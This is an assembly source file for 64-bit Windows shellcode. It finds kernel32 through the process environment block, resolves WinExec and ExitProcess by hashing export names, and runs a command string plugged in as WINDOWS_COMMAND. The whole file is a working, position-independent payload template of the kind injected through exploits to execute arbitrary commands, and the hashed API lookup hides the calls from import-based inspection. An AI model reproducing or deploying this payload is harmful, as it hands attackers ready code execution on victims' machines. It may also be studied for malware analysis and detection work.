; Windows, 64 bit: exports by hashes (h rol 5 xor c); WinExec, ExitProcess.
%macro HASH5 2
%strlen %%length %2
%assign %%h 0
%assign %%i 1
%rep %%length
%substr %%c %2 %%i
%assign %%h (((%%h << 5) | (%%h >> 27)) & 0xffffffff) ^ %%c
%assign %%i %%i + 1
%endrep
%1 equ %%h
%endmacro
HASH5 win_exec, 'WinExec'
HASH5 exit_process, 'ExitProcess'
bits 64
        cld
        and rsp, -16
        sub rsp, 0x40
        jmp main
; find: hash in r10d; function in rax
find:   push 0x60
        pop rcx
        mov rax, [gs:rcx]
        mov rax, [rax + 0x18]
        mov rax, [rax + 0x30]   ; initialisation order: ntdll, kernel32
        mov rax, [rax]
next_module:
        mov rbx, [rax + 0x10]
        push rax
        mov ecx, [rbx + 0x3c]
        mov edx, [rbx + rcx + 0x88]
        test edx, edx
        jz none
        add rdx, rbx
        mov ecx, [rdx + 0x18]
        mov r8d, [rdx + 0x20]
        add r8, rbx
name:   jrcxz none
        dec ecx
        mov esi, [r8 + rcx * 4]
        add rsi, rbx
        xor r9d, r9d
        xor eax, eax
letter: lodsb
        test al, al
        jz hashed
        rol r9d, 5
        xor r9d, eax
        jmp letter
hashed: cmp r9d, r10d
        jne name
        pop rax
        mov r8d, [rdx + 0x24]
        add r8, rbx
        movzx ecx, word [r8 + rcx * 2]
        mov r8d, [rdx + 0x1c]
        add r8, rbx
        mov eax, [r8 + rcx * 4]
        add rax, rbx
        ret
none:   pop rax
        mov rax, [rax]
        jmp next_module
main:   mov r10d, win_exec
        call find
        call run
        db WINDOWS_COMMAND, 0
run:    pop rcx
        push 1
        pop rdx
        sub rsp, 0x28
        call rax
        mov r10d, exit_process
        call find
        xor ecx, ecx
        call rax
